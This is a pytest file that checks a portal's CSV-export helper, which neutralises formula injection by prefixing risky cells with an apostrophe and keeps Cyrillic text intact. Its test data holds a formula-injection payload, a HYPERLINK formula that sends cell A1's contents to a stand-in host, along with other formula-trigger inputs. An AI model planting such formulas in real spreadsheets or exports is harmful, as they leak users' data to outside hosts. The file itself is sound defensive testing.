"""core.csvsafe: OWASP's rule against CSV (formula) injection, the
one helper every CSV export of the portal writes through."""

from __future__ import annotations

import csv
import io

import pytest

from core.csvsafe import csv_bytes, safe_cell

FORMULA = '=HYPERLINK("http://x/"&A1,"Click")'


@pytest.mark.parametrize(("value", "expected"), [
    (FORMULA, "'" + FORMULA),
    ("+7 727 000 00 00", "'+7 727 000 00 00"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("Нурланов", "Нурланов"),
    ("O'Brien", "O'Brien"),
    ("a=b", "a=b"),
    ("", ""),
    (None, ""),
    (-3, "-3"),
    (2.5, "2.5"),
    (True, "True"),
])
def test_safe_cell_prefixes_only_what_a_spreadsheet_reads_as_a_formula(value, expected):
    assert safe_cell(value) == expected


def test_csv_bytes_neutralises_every_cell_and_keeps_the_cyrillic():
    content = csv_bytes([["Фамилия", "Surname"], [FORMULA, "=1+1"], ["Аманов", "-1"]])

    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["Фамилия", "Surname"], ["'" + FORMULA, "'=1+1"], ["Аманов", "'-1"]]
